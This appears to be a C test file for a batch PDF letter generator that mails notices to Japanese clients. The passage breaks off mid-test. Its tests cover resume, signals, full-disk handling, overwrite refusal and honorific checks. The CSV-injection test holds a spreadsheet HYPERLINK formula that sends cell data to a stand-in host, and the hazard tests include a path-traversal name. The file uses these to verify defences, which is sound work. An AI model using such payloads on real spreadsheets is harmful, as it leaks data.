/* test_batch.c — batch mode end to end: a client list full of hazards gives
 * the expected files, names and manifest, and the bad rows are reported
 * while the others go out; a CP932 copy of the list gives the same letters;
 * --jobs 1 and --jobs 2 give identical bytes; the shards together are the
 * full run; a killed run resumed equals a clean run; letters are 0600 and
 * never overwritten without --force; a symlinked output dir is refused. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "../common/shell.h"

#include "batch/batch_int.h"
#include "batch/clients.h"

#define RECORD  NG_SOURCE_DIR "/examples/shaamu-2023/incident.yaml"
#define HAZARDS NG_SOURCE_DIR "/tests/golden/batch/hazards.csv"

static char tmp[64];

static int setup(void **state)
{
	(void)state;
	strcpy(tmp, "/tmp/ng-batch-XXXXXX");
	return mkdtemp(tmp) ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	char cmd[128];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", tmp);
	return system(cmd) == 0 ? 0 : -1;
}

static int batch(const char *list, const char *out, const char *extra)
{
	int rc = sh("'%s' batch '%s' --clients '%s' -o '%s/%s' --quiet %s 2>'%s/%s.err'", NG_BINARY,
	            RECORD, list, tmp, out, extra, tmp, out);
	if (rc > 128) /* a crash: its stderr is the only trace CI keeps */
		sh("sed 's/^/[ STDERR   ] /' '%s/%s.err' >&2", tmp, out);
	return rc;
}

/* A list of n clients (two services, varied names). */
static const char *make_list(int n)
{
	static char path[128];
	snprintf(path, sizeof path, "%s/many.csv", tmp);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fprintf(f, "id,name,postcode,services\n");
	for (int i = 1; i <= n; i++)
		fprintf(f, "C%03d,株式会社テスト%d ｶﾌﾞｼｷｶﾞｲｼｬ,100-%04d,%s\n", i, i, i,
		        i % 3 ? "社会保険労働保険手続き" : "給与賞与年末調整における計算");
	fclose(f);
	return path;
}

static void hazards(void **state)
{
	(void)state;
	assert_int_equal(batch(HAZARDS, "h", "-j 2"), 4); /* partly failed */
	static const char *const made[] = {"000001-株式会社青葉商事,_本社.pdf",
	                                   "000002-㈱髙橋製作所.pdf", "000003-ヤマダ_タロウ.pdf",
	                                   "000004-_._etc_passwd.pdf", "000005-山﨑_工務店.pdf",
	                                   /* 𠮷 (U+20BB7) from the fallback font */
	                                   "000007-有限会社𠮷野家具.pdf"};
	for (size_t i = 0; i < sizeof made / sizeof *made; i++) {
		char path[512];
		struct stat st;
		snprintf(path, sizeof path, "%s/h/%s", tmp, made[i]);
		if (stat(path, &st) != 0)
			fail_msg("missing %s", made[i]);
		assert_int_equal(st.st_mode & 0777, 0600);
	}
	/* Exactly those six letters, the manifests, the finished run's
	 * record (.notice-gen), nothing else. */
	assert_int_equal(sh("test $(ls -A '%s/h' | wc -l) -eq 9", tmp), 0);
	assert_int_equal(sh("ls -A '%s/h/.notice-gen' | grep -qvxe done -e lock", tmp), 1);
	assert_int_equal(sh("grep -c ',ok,' '%s/h/manifest.csv' | grep -qx 6", tmp), 0);
	assert_int_equal(sh("grep -c ',failed,' '%s/h/manifest.csv' | grep -qx 4", tmp), 0);
	/* Each bad row at its spreadsheet row:column. */
	static const char *const errs[] = {"hazards.csv:7:1: error", "hazards.csv:9:4: error",
	                                   "hazards.csv:10:6: error", "hazards.csv:11:7: error"};
	for (size_t i = 0; i < sizeof errs / sizeof *errs; i++)
		if (sh("grep -q '%s' '%s/h.err'", errs[i], tmp) != 0)
			fail_msg("no '%s' in stderr", errs[i]);
	/* The addressee is made from the row: company + contact → 様 line. */
	assert_int_equal(sh("pdftotext '%s/h/000001-株式会社青葉商事,_本社.pdf' - | "
	                    "grep -q '総務部 佐藤 花子 様'",
	                    tmp),
	                 0);
	/* Only the contracted service's items. */
	assert_int_equal(
	    sh("pdftotext '%s/h/000002-㈱髙橋製作所.pdf' - | grep -q '基礎年金番号'", tmp), 1);
}

static void cp932_same_letters(void **state)
{
	(void)state;
	const char *list = make_list(6);
	char sjis[160];
	snprintf(sjis, sizeof sjis, "%s/many-sjis.csv", tmp);
	assert_int_equal(sh("iconv -f UTF-8 -t CP932 '%s' > '%s'", list, sjis), 0);
	assert_int_equal(batch(list, "u", ""), 0);
	assert_int_equal(batch(sjis, "s", ""), 0);
	assert_int_equal(
	    sh("cd '%s' && for f in u/*.pdf; do cmp \"$f\" \"s/${f#u/}\" || exit 1; done", tmp), 0);
}

static void jobs_and_shards_identical(void **state)
{
	(void)state;
	const char *list = make_list(12);
	assert_int_equal(batch(list, "j1", "-j 1"), 0);
	assert_int_equal(batch(list, "j2", "-j 2"), 0);
	assert_int_equal(sh("diff -r '%s/j1' '%s/j2' >/dev/null", tmp, tmp), 0);
	for (int k = 1; k <= 3; k++) {
		char opt[32];
		snprintf(opt, sizeof opt, "--shard %d/3", k);
		assert_int_equal(batch(list, "sh", opt), 0);
	}
	/* The union of the shards' letters is the full run's. */
	assert_int_equal(
	    sh("cd '%s' && for f in j1/*.pdf; do cmp \"$f\" \"sh/${f#j1/}\" || exit 1; "
	       "done && test $(ls sh/*.pdf | wc -l) -eq 12",
	       tmp),
	    0);
}

/* A run killed part-way (NG_TEST_STOP_AFTER: the run dies as under
 * kill -9 after a worker's 7th letter) is refused without --resume and
 * resumed to exactly the clean run's files. */
static void killed_run_resumes_to_clean(void **state)
{
	(void)state;
	const char *list = make_list(80);
	assert_int_equal(batch(list, "clean", "-j 2"), 0);
	sh("NG_TEST_STOP_AFTER=7 '%s' batch '%s' --clients '%s' -o '%s/k' --quiet -j 2 "
	   "2>/dev/null",
	   NG_BINARY, RECORD, list, tmp);
	assert_int_equal(sh("test -f '%s/k/.notice-gen/journal'", tmp), 0);
	assert_int_equal(sh("test $(ls '%s/k' | grep -c pdf) -lt 80", tmp), 0);
	/* Without --resume an unfinished run is not silently restarted. */
	assert_int_equal(batch(list, "k", "-j 2"), 2);
	assert_int_equal(batch(list, "k", "-j 2 --resume"), 0);
	assert_int_equal(sh("diff -r '%s/clean' '%s/k' >/dev/null", tmp, tmp), 0);
}

/* Journal lines go out 64 letters at a time (per worker): a run killed
 * after its 70th letter leaves 70 letters and 64 lines. --resume renders
 * the 6 letters without a line again, finds their bytes in place and
 * keeps the files (the same inodes: not written again), and ends with the
 * clean run's files. */
static void unjournaled_letters_kept_on_resume(void **state)
{
	(void)state;
	const char *list = make_list(80);
	assert_int_equal(batch(list, "uj-clean", "-j 1"), 0);
	sh("NG_TEST_STOP_AFTER=70 '%s' batch '%s' --clients '%s' -o '%s/uj' --quiet -j 1 "
	   "2>/dev/null",
	   NG_BINARY, RECORD, list, tmp);
	assert_int_equal(sh("test $(ls '%s/uj' | grep -c pdf) -eq 70", tmp), 0);
	assert_int_equal(sh("test $(grep -c '^R' '%s/uj/.notice-gen/journal') -eq 64", tmp), 0);
	assert_int_equal(sh("cd '%s/uj' && stat -c %%i 000065-* 000070-* >../uj.inodes", tmp), 0);
	assert_int_equal(batch(list, "uj", "-j 1 --resume"), 0);
	assert_int_equal(
	    sh("cd '%s/uj' && stat -c %%i 000065-* 000070-* | cmp -s - ../uj.inodes", tmp), 0);
	assert_int_equal(sh("diff -r '%s/uj-clean' '%s/uj' >/dev/null", tmp, tmp), 0);
}

/* A letter's name taken by another file while a run is stopped (here a
 * planted file at row 10's name, before --resume): that row fails with
 * "already exists" and the file is left as it was (RENAME_NOREPLACE, no
 * look-up before; NG_TEST_NO_NOREPLACE: the look-up of a file system
 * without it); the other rows are made. */
static void planted_letter_not_replaced(void **state)
{
	(void)state;
	const char *list = make_list(12);
	static const char *const ways[] = {"", "NG_TEST_NO_NOREPLACE=1"};
	for (size_t i = 0; i < NG_ARRAY_LEN(ways); i++) {
		sh("rm -rf '%s/pl'", tmp);
		sh("NG_TEST_STOP_AFTER=3 '%s' batch '%s' --clients '%s' -o '%s/pl' --quiet -j 1 "
		   "2>/dev/null",
		   NG_BINARY, RECORD, list, tmp);
		assert_int_equal(sh("test $(ls '%s/pl' | grep -c pdf) -eq 3", tmp), 0);
		assert_int_equal(
		    sh("cd '%s/pl' && echo planted >000010-株式会社テスト10_カブシキガイシャ.pdf",
		       tmp),
		    0);
		assert_int_equal(sh("%s '%s' batch '%s' --clients '%s' -o '%s/pl' --quiet -j 1 "
		                    "--resume 2>'%s/pl.err'",
		                    ways[i], NG_BINARY, RECORD, list, tmp, tmp),
		                 4); /* partly failed */
		assert_int_equal(sh("grep -q '000010-.*already exists' '%s/pl.err'", tmp), 0);
		assert_int_equal(sh("echo planted | cmp -s - "
		                    "'%s/pl/000010-株式会社テスト10_カブシキガイシャ.pdf'",
		                    tmp),
		                 0);
		assert_int_equal(sh("test $(grep -c ',ok,' '%s/pl/manifest.csv') -eq 11", tmp), 0);
		assert_int_equal(sh("find '%s/pl' -name '*.tmp*' | grep -q .", tmp), 1);
	}
}

/* SIGINT, SIGTERM and SIGHUP (a closed terminal) each stop the run after
 * the letters being written (here: when a worker has written its 5th),
 * leave no temporary file, say "interrupted" (exit 4); --resume then
 * finishes it to the clean run's files. */
static void signals_leave_no_temp_files(void **state)
{
	(void)state;
	const char *list = make_list(80);
	assert_int_equal(batch(list, "clean2", "-j 2"), 0);
	static const char *const sigs[] = {"INT", "TERM", "HUP"};
	for (size_t i = 0; i < NG_ARRAY_LEN(sigs); i++) {
		sh("rm -rf '%s/int'", tmp);
		int rc = sh("NG_TEST_STOP_AFTER=5:%s '%s' batch '%s' --clients '%s' -o '%s/int' "
		            "--quiet -j 2 2>'%s/int.err'",
		            sigs[i], NG_BINARY, RECORD, list, tmp, tmp);
		if (rc != 4)
			fail_msg("SIG%s: exit %d, not 4", sigs[i], rc);
		assert_int_equal(sh("find '%s/int' -name '*.tmp*' | grep -q .", tmp), 1);
		assert_int_equal(sh("grep -q interrupted '%s/int.err'", tmp), 0);
		assert_int_equal(sh("grep -q -- --resume '%s/int.err'", tmp), 0);
		assert_int_equal(sh("test $(ls '%s/int' | grep -c pdf) -lt 80", tmp), 0);
		assert_int_equal(batch(list, "int", "-j 2 --resume"), 0);
		assert_int_equal(sh("diff -r '%s/clean2' '%s/int' >/dev/null", tmp, tmp), 0);
	}
}

/* A finished directory: a rerun without flags is refused (2) before it
 * touches anything — letters, manifests, the mail-house list stay as they
 * were; --force replaces the run; a symlinked output dir is refused. */
static void no_overwrite_and_symlink(void **state)
{
	(void)state;
	const char *list = make_list(2);
	char merge[160];
	snprintf(merge, sizeof merge, "--merge '%s/o-print.pdf'", tmp);
	assert_int_equal(batch(list, "o", merge), 0);
	assert_int_equal(sh("cd '%s' && sha256sum o/* o-print.* >o.sha", tmp), 0);
	assert_int_equal(batch(list, "o", merge), 2); /* a finished run */
	assert_int_equal(sh("grep -q 'holds a finished run' '%s/o.err'", tmp), 0);
	assert_int_equal(sh("cd '%s' && sha256sum -c --quiet o.sha", tmp), 0);
	assert_int_equal(batch(list, "o", "--force"), 0); /* replaced */
	assert_int_equal(sh("ln -s '%s/o' '%s/link'", tmp, tmp), 0);
	assert_int_equal(batch(list, "link", ""), 3); /* a symlinked output dir */
}

/* Files of this run that are there already, with no record of a run
 * (another kind of run, or a directory from an older version): refused
 * before anything is touched. */
static void existing_files_refused(void **state)
{
	(void)state;
	const char *list = make_list(6);
	assert_int_equal(batch(list, "x", "--shard 1/2"), 0);
	assert_int_equal(sh("cd '%s' && sha256sum x/* >x.sha", tmp), 0);
	/* The whole run would write shard 1's letters again. */
	assert_int_equal(batch(list, "x", ""), 2);
	assert_int_equal(sh("grep -q 'holds 3 files this run would write' '%s/x.err'", tmp), 0);
	assert_int_equal(sh("cd '%s' && sha256sum -c --quiet x.sha", tmp), 0);
	assert_int_equal(sh("test ! -e '%s/x/manifest.csv'", tmp), 0);
	/* No record of the run (its state removed by hand): the manifest
	 * alone is enough to refuse. */
	assert_int_equal(sh("rm -r '%s/x/.notice-gen'", tmp), 0);
	assert_int_equal(batch(list, "x", "--shard 1/2"), 2);
	assert_int_equal(batch(list, "x", "--shard 1/2 --resume"), 2);
	assert_int_equal(sh("grep -q 'no unfinished run' '%s/x.err'", tmp), 0);
	assert_int_equal(sh("cd '%s' && sha256sum -c --quiet x.sha", tmp), 0);
	/* Shard 2 writes other files: it goes. */
	assert_int_equal(batch(list, "x", "--shard 2/2"), 0);
}

/* A second run into a directory a run is writing into is refused with the
 * first run's pid (the first is frozen by NG_TEST_STOP_AFTER=N:STOP while
 * holding its lock); once it is gone, --resume finishes its work. */
static void second_run_refused_while_first_runs(void **state)
{
	(void)state;
	const char *list = make_list(20);
	assert_int_equal(
	    sh("cd '%s' && (NG_TEST_STOP_AFTER=2:STOP '%s' batch '%s' --clients '%s' -o lk "
	       "--quiet -j 2 2>/dev/null & echo $! >lk.pid; wait) >/dev/null 2>&1 &",
	       tmp, NG_BINARY, RECORD, list),
	    0);
	/* Wait (bounded) until the first run is frozen. */
	assert_int_equal(sh("cd '%s' && for i in $(seq 30000); do test -s lk.pid && "
	                    "grep -q '^State:.*T' /proc/$(cat lk.pid)/status 2>/dev/null && "
	                    "exit 0; sleep 0.01; done; exit 1",
	                    tmp),
	                 0);
	assert_int_equal(batch(list, "lk", "-j 2 --resume"), 3);
	assert_int_equal(sh("grep -q \"(pid $(cat '%s/lk.pid'))\" '%s/lk.err'", tmp, tmp), 0);
	assert_int_equal(batch(list, "lk", "-j 2 --force"), 3); /* not even with --force */
	assert_int_equal(sh("kill -KILL $(cat '%s/lk.pid')", tmp), 0);
	assert_int_equal(sh("cd '%s' && for i in $(seq 30000); do test -e /proc/$(cat lk.pid) || "
	                    "exit 0; sleep 0.01; done; exit 1",
	                    tmp),
	                 0);
	assert_int_equal(batch(list, "lk", "-j 2 --resume"), 0);
	assert_int_equal(batch(list, "lk1", "-j 1"), 0);
	assert_int_equal(sh("cd '%s' && diff -r -x .notice-gen lk lk1", tmp), 0);
}

/* Waits until the run whose pid is in FILE and all its workers are
 * stopped (NG_TEST_STOP_AFTER=N:STOP): a condition, not a time (the bound,
 * minutes, only keeps a broken run from hanging the test). The worker
 * stops its parent first and itself just after: a worker still running
 * then means "not yet", never a failure. */
#define WAIT_STOPPED                                                                               \
	"for i in $(seq 30000); do p=$(cat %s 2>/dev/null); "                                      \
	"if [ -n \"$p\" ] && grep -q '^State:.*T' /proc/$p/status; then all=1; "                   \
	"for c in $(cat /proc/$p/task/*/children); do "                                            \
	"grep -q '^State:.*T' /proc/$c/status || all=0; done; [ $all = 1 ] && exit 0; fi; "        \
	"sleep 0.01; done; exit 1"

/* A list rewritten in place while a run reads it: the run stops with a
 * clear error before a row of the new version is used (each 64 KiB piece
 * is compared with the first reading), writes no manifest, and --resume
 * refuses the changed list; with the list put back, --resume ends with
 * the clean run's files. */
static void list_changed_during_run_stops(void **state)
{
	(void)state;
	/* Rows of about 600 bytes: the list is two pieces. */
	assert_int_equal(
	    sh("cd '%s' && { echo id,name,note; for i in $(seq 120); do "
	       "printf 'C%%03d,株式会社テスト%%d,%%0600d\\n' $i $i 0; done; } >big.csv && "
	       "sed 's/株式会社テスト120,/株式会社べつもの,/' big.csv >big2.csv && "
	       "cp big.csv big-orig.csv && test $(stat -c %%s big.csv) -gt 65536",
	       tmp),
	    0);
	char list[128];
	snprintf(list, sizeof list, "%s/big.csv", tmp);
	assert_int_equal(batch(list, "lc-clean", "-j 1"), 0);
	assert_int_equal(
	    sh("cd '%s' && (NG_TEST_STOP_AFTER=3:STOP '%s' batch '%s' --clients big.csv -o lc "
	       "-j 1 2>lc.err & echo $! >lc.pid; wait $!; echo $? >lc.rc) >/dev/null 2>&1 &",
	       tmp, NG_BINARY, RECORD),
	    0);
	char pidfile[128];
	snprintf(pidfile, sizeof pidfile, "%s/lc.pid", tmp);
	assert_int_equal(sh(WAIT_STOPPED, pidfile), 0);
	/* Rewritten in place (same inode), then the run goes on. */
	assert_int_equal(sh("cd '%s' && cat big2.csv >big.csv && p=$(cat lc.pid) && "
	                    "kill -CONT $p $(cat /proc/$p/task/*/children)",
	                    tmp),
	                 0);
	assert_int_equal(sh("cd '%s' && for i in $(seq 30000); do test -s lc.rc && exit 0; "
	                    "sleep 0.01; done; exit 1",
	                    tmp),
	                 0);
	assert_int_equal(sh("grep -qx 3 '%s/lc.rc'", tmp), 0);
	assert_int_equal(sh("grep -q 'big.csv: error: .*changed while the run was reading it' "
	                    "'%s/lc.err'",
	                    tmp),
	                 0);
	assert_int_equal(sh("test ! -e '%s/lc/manifest.csv'", tmp), 0);
	assert_int_equal(sh("grep -q べつもの '%s'/lc/*.pdf", tmp), 1);
	/* --resume with the changed list: refused; with the list put back:
	 * the clean run's files. */
	assert_int_equal(batch(list, "lc", "-j 1 --resume"), 2);
	assert_int_equal(sh("grep -q 'client list differs' '%s/lc.err'", tmp), 0);
	assert_int_equal(sh("cp '%s/big-orig.csv' '%s'", tmp, list), 0);
	assert_int_equal(batch(list, "lc", "-j 1 --resume"), 0);
	assert_int_equal(sh("diff -r '%s/lc-clean' '%s/lc' >/dev/null", tmp, tmp), 0);
}

/* A full disk (NG_TEST_ENOSPC_AFTER: a worker's 4th letter is cut short,
 * then ENOSPC): reported as such, the run stops there (no other letter
 * fails for another reason), no temporary file or manifest is left, and
 * the message says how to go on; --resume then ends with the clean run's
 * files. */
static void disk_full_stops_the_run(void **state)
{
	(void)state;
	const char *list = make_list(30);
	assert_int_equal(batch(list, "df-clean", "-j 2"), 0);
	assert_int_equal(sh("NG_TEST_ENOSPC_AFTER=3 '%s' batch '%s' --clients '%s' -o '%s/df' "
	                    "--quiet -j 2 2>'%s/df.err'",
	                    NG_BINARY, RECORD, list, tmp, tmp),
	                 3);
	assert_int_equal(sh("grep -q 'No space left on device' '%s/df.err'", tmp), 0);
	assert_int_equal(
	    sh("grep -q 'no space left on the device; the run stopped' '%s/df.err'", tmp), 0);
	assert_int_equal(sh("grep -q 'with --resume' '%s/df.err'", tmp), 0);
	/* At most one failure per worker, each the full disk. */
	assert_int_equal(sh("test $(grep -c 'error: cannot write 0' '%s/df.err') -le 2", tmp), 0);
	assert_int_equal(
	    sh("grep 'error:' '%s/df.err' | grep -v 'No space\\|no space' | grep -q .", tmp), 1);
	assert_int_equal(sh("test $(ls '%s/df' | grep -c pdf) -le 8", tmp), 0);
	assert_int_equal(sh("find '%s/df' -name '*.tmp*' | grep -q .", tmp), 1);
	assert_int_equal(sh("test ! -e '%s/df/manifest.csv'", tmp), 0);
	assert_int_equal(batch(list, "df", "-j 2 --resume"), 0);
	assert_int_equal(sh("diff -r '%s/df-clean' '%s/df' >/dev/null", tmp, tmp), 0);
}

/* The same on a real full file system: a 1 MiB tmpfs in a private mount
 * namespace (skipped where namespaces or mounts are not allowed). */
static void disk_full_on_tmpfs(void **state)
{
	(void)state;
	const char *list = make_list(30);
	if (sh("unshare -m true 2>/dev/null") != 0)
		skip();
	assert_int_equal(batch(list, "fs-clean", "-j 2"), 0);
	assert_int_equal(
	    sh("mkdir -p '%s/fs' && unshare -m sh -c \"mount -t tmpfs -o size=1m none '%s/fs' && "
	       "{ '%s' batch '%s' --clients '%s' -o '%s/fs/out' --quiet -j 2 2>'%s/fs.err'; "
	       "echo \\$? >'%s/fs.rc'; find '%s/fs' -name '*.tmp*' >'%s/fs.tmp'; "
	       "mount -o remount,size=64m '%s/fs' && '%s' batch '%s' --clients '%s' -o '%s/fs/out' "
	       "--quiet -j 2 --resume 2>>'%s/fs.err' && diff -r '%s/fs-clean' '%s/fs/out'; }\"",
	       tmp, tmp, NG_BINARY, RECORD, list, tmp, tmp, tmp, tmp, tmp, tmp, NG_BINARY, RECORD,
	       list, tmp, tmp, tmp, tmp),
	    0);
	assert_int_equal(sh("grep -qx 3 '%s/fs.rc'", tmp), 0);
	assert_int_equal(sh("grep -q 'no space left on the device' '%s/fs.err'", tmp), 0);
	assert_int_equal(sh("grep -q 'No such file' '%s/fs.err'", tmp), 1);
	assert_int_equal(sh("test -s '%s/fs.tmp'", tmp), 1);
}

/* Values a spreadsheet would run as formulas (= + - @, a tab or CR first)
 * are written with an apostrophe before them in manifest.csv, print.csv
 * and passwords.csv (OWASP's advice for CSV injection); the letters keep
 * the names as written. */
static void formula_injection_neutralised(void **state)
{
	(void)state;
	char path[128];
	snprintf(path, sizeof path, "%s/formula.csv", tmp);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs("id,name,postcode,address\n"
	      "=1+1,\"=HYPERLINK(\"\"http://x.example/?p=\"\"&E2,\"\"x\"\")\",100-0001,@SUM(A1)\n"
	      "+2,+株式会社プラス,100-0002,-東京都\n"
	      "-3,-株式会社マイナス,100-0003,\"\t東京都\"\n"
	      "@4,@株式会社アット,100-0004,東京都\n",
	      f);
	fclose(f);
	char opts[256];
	snprintf(opts, sizeof opts,
	         "--encrypt --generate-passwords --owner-password-file '%s/o.pw' "
	         "--merge '%s/fi-print.pdf'",
	         tmp, tmp);
	assert_int_equal(sh("echo Owner-Pass-123 >'%s/o.pw'", tmp), 0);
	assert_int_equal(batch(path, "fi", opts), 0);
	static const char *const files[] = {"fi/manifest.csv", "fi-print.csv", "fi/passwords.csv"};
	for (size_t i = 0; i < NG_ARRAY_LEN(files); i++) {
		/* No cell starts with a formula character (a cell starts after
		 * a line start or a comma, with or without its quote). */
		if (sh("cd '%s' && tail -n +2 '%s' | grep -q '\\(^\\|,\\)\"\\?[-=+@\t]'", tmp,
		       files[i]) == 0)
			fail_msg("%s has a cell starting with a formula character", files[i]);
		if (sh("cd '%s' && grep -q \"\\\"'=HYPERLINK\" '%s'", tmp, files[i]) != 0)
			fail_msg("%s lost the name", files[i]);
	}
	assert_int_equal(sh("cd '%s' && grep -q \"\\\"'=1+1\\\"\" fi/manifest.csv", tmp), 0);
	assert_int_equal(sh("cd '%s' && grep -q \"\\\"'@SUM(A1)\\\"\" fi-print.csv", tmp), 0);
}

/* The --merge target is checked before the first letter: a missing
 * directory, a symbolic link, a FIFO are refused (exit 3) with no letter
 * written; a file planted at the old fixed temporary name
 * (PRINT.pdf.tmp) receives nothing (mkstemp). */
static void merge_target_checked_first(void **state)
{
	(void)state;
	const char *list = make_list(3);
	char opt[256];
	snprintf(opt, sizeof opt, "--merge '%s/no-such-dir/print.pdf'", tmp);
	assert_int_equal(batch(list, "mt", opt), 3);
	assert_int_equal(sh("test ! -e '%s/mt'", tmp), 0);
	assert_int_equal(sh("cd '%s' && ln -s /dev/null mt-link.pdf && mkfifo mt-fifo.pdf", tmp),
	                 0);
	static const char *const bad[] = {"mt-link.pdf", "mt-fifo.pdf"};
	for (size_t i = 0; i < NG_ARRAY_LEN(bad); i++) {
		snprintf(opt, sizeof opt, "--merge '%s/%s'", tmp, bad[i]);
		assert_int_equal(batch(list, "mt", opt), 3);
		assert_int_equal(
		    sh("grep -q 'is a symbolic link\\|is not a regular file' '%s/mt.err'", tmp), 0);
		assert_int_equal(sh("test ! -e '%s/mt'", tmp), 0);
	}
	assert_int_equal(sh("test -L '%s/mt-link.pdf' && test -p '%s/mt-fifo.pdf'", tmp, tmp), 0);
	/* A read-only file system (a tmpfs mounted read-only in a private
	 * mount namespace, where that is allowed): refused before any letter. */
	if (sh("unshare -m true 2>/dev/null") == 0)
		assert_int_equal(
		    sh("cd '%s' && mkdir -p ro && unshare -m sh -c \"mount -t tmpfs -o "
		       "ro,size=1m none ro && '%s' batch '%s' --clients '%s' -o mt-ro "
		       "--quiet --merge ro/print.pdf 2>mt-ro.err\"; test $? -eq 3 && "
		       "test ! -e mt-ro && grep -q 'Read-only file system' mt-ro.err",
		       tmp, NG_BINARY, RECORD, list),
		    0);
	assert_int_equal(sh("echo planted >'%s/mt-print.pdf.tmp'", tmp), 0);
	snprintf(opt, sizeof opt, "--merge '%s/mt-print.pdf'", tmp);
	assert_int_equal(batch(list, "mt", opt), 0);
	assert_int_equal(sh("echo planted | cmp -s - '%s/mt-print.pdf.tmp'", tmp), 0);
	assert_int_equal(sh("qpdf --check '%s/mt-print.pdf' >/dev/null", tmp), 0);
	assert_int_equal(sh("ls '%s' | grep -q 'mt-print.pdf.tmp.'", tmp), 1); /* none left */
}

/* -o - (standard output) is refused for a batch, no directory "-" is
 * made; a missing list is an I/O error (3); a CR inside a field never
 * reaches the mail-house list or the manifest. */
static void batch_usage_and_io_errors(void **state)
{
	(void)state;
	const char *list = make_list(2);
	assert_int_equal(sh("cd '%s' && '%s' batch '%s' --clients '%s' -o - 2>dash.err", tmp,
	                    NG_BINARY, RECORD, list),
	                 2);
	assert_int_equal(sh("test ! -e '%s/-'", tmp), 0);
	char missing[128];
	snprintf(missing, sizeof missing, "%s/no-such-list.csv", tmp);
	assert_int_equal(batch(missing, "ml", ""), 3);
	assert_int_equal(sh("test ! -e '%s/ml'", tmp), 0);
	char cr[128];
	snprintf(cr, sizeof cr, "%s/cr.csv", tmp);
	FILE *f = fopen(cr, "w");
	assert_non_null(f);
	fputs("id,name,postcode,address\r\nC1,\"株式会社\rシーアール\",100-0001,"
	      "\"東京都\r\n千代田区\"\r\n",
	      f);
	fclose(f);
	char opt[256];
	snprintf(opt, sizeof opt, "--merge '%s/cr-print.pdf'", tmp);
	assert_int_equal(batch(cr, "cr", opt), 0);
	/* The only CRs are the line ends. */
	assert_int_equal(
	    sh("cd '%s' && c=$(printf '\\r') && for f in cr-print.csv cr/manifest.csv; "
	       "do sed \"s/$c\\$//\" $f | grep -q \"$c\" && exit 1; done; exit 0",
	       tmp),
	    0);
	assert_int_equal(sh("grep -q '東京都' '%s/cr-print.csv'", tmp), 0);
}

/* A client's values are data: a {{…}} in a name from a CSV or a YAML
 * list prints as written, in the letter as in the mail-house list. */
static void client_values_are_data(void **state)
{
	(void)state;
	char csv[128], yaml[128];
	snprintf(csv, sizeof csv, "%s/tmplname.csv", tmp);
	snprintf(yaml, sizeof yaml, "%s/tmplname.yaml", tmp);
	FILE *f = fopen(csv, "w");
	assert_non_null(f);
	fputs("id,name,contact\nC1,株式会社{{2023-06-05}},\nC2,株式会社テスト,{{letter.title}}\n",
	      f);
	fclose(f);
	f = fopen(yaml, "w");
	assert_non_null(f);
	fputs("- name: \"{{sender.organization}}\"\n  kind: person\n", f);
	fclose(f);
	char opt[256];
	snprintf(opt, sizeof opt, "--merge '%s/td-print.pdf'", tmp);
	assert_int_equal(batch(csv, "td", opt), 0);
	assert_int_equal(
	    sh("pdftotext '%s/td/000001-'*.pdf - | grep -qF '株式会社{{2023-06-05}} 御中'", tmp),
	    0);
	assert_int_equal(sh("pdftotext '%s/td/000001-'*.pdf - | grep -q '株式会社令和'", tmp), 1);
	assert_int_equal(
	    sh("pdftotext '%s/td/000002-'*.pdf - | grep -qF '{{letter.title}} 様'", tmp), 0);
	assert_int_equal(sh("grep -qF '株式会社{{2023-06-05}}' '%s/td-print.csv'", tmp), 0);
	assert_int_equal(batch(yaml, "ty", ""), 0);
	assert_int_equal(
	    sh("pdftotext '%s/ty/000001-'*.pdf - | grep -qF '{{sender.organization}} 様'", tmp), 0);
}

/* Each client's addressee passes the record's honorific checks: a double
 * honorific or 御中 with 様 fails its row at the cell it came from, and a
 * name of spaces only fails; the good rows still go out. */
static void batch_honorifics(void **state)
{
	(void)state;
	char path[128];
	snprintf(path, sizeof path, "%s/hon.csv", tmp);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs("name,kind,contact,addressee\n"
	      "人事部 御中,person,,\n"              /* row 2: 人事部 御中 様 */
	      "山田 太郎 殿,person,,\n"             /* row 3: 山田 太郎 殿 様 */
	      "先生,person,,\n"                     /* row 4: 先生 様 */
	      "皆様,group,,\n"                      /* row 5: 皆様各位 */
	      "株式会社X,,,株式会社X 御中 山田様\n" /* row 6: the addressee column */
	      "顧問先,,,顧問先従業員様各位\n"       /* row 7 */
	      "株式会社Y,company,佐藤 殿,\n"        /* row 8: 佐藤 殿 様 (the contact) */
	      "\"\u3000 \",person,,\n"              /* row 9: spaces only */
	      "お客,group,,お客様各位\n"            /* row 10: accepted */
	      "株式会社よい,company,,\n",           /* row 11 */
	      f);
	fclose(f);
	assert_int_equal(batch(path, "hon", "-j 1"), 4);
	static const char *const errs[] = {
	    "hon.csv:2:1: error", "hon.csv:3:1: error", "hon.csv:4:1: error", "hon.csv:5:1: error",
	    "hon.csv:6:4: error", "hon.csv:7:4: error", "hon.csv:8:3: error", "hon.csv:9:1: error"};
	for (size_t i = 0; i < NG_ARRAY_LEN(errs); i++)
		if (sh("grep -q '%s' '%s/hon.err'", errs[i], tmp) != 0)
			fail_msg("no '%s' in stderr", errs[i]);
	assert_int_equal(sh("grep -c ',ok,' '%s/hon/manifest.csv' | grep -qx 2", tmp), 0);
	assert_int_equal(sh("pdftotext '%s/hon/000009-'*.pdf - | grep -q 'お客様各位'", tmp), 0);
}

/* A name that ends in the honorific of a kind is of that kind when the
 * row gives none (「顧問先従業員各位」 was made 「顧問先従業員各位 御中」 and
 * failed as a double honorific, every row of a list of groups); a kind
 * against the name's own honorific is one message naming both. */
static void batch_honorific_kinds(void **state)
{
	(void)state;
	char path[128];
	snprintf(path, sizeof path, "%s/kinds.csv", tmp);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs("name,kind\n"
	      "顧問先従業員各位,\n"            /* row 2: a group */
	      "株式会社青葉商事 従業員各位,\n" /* row 3: a group, not a company */
	      "山田 花子 様,\n"                /* row 4: a person */
	      "株式会社Z 人事部 御中,\n"       /* row 5: a company */
	      "従業員各位,company\n",          /* row 6: the kind says otherwise */
	      f);
	fclose(f);
	assert_int_equal(batch(path, "kinds", "-j 1"), 4);
	assert_int_equal(sh("grep -c ',ok,' '%s/kinds/manifest.csv' | grep -qx 4", tmp), 0);
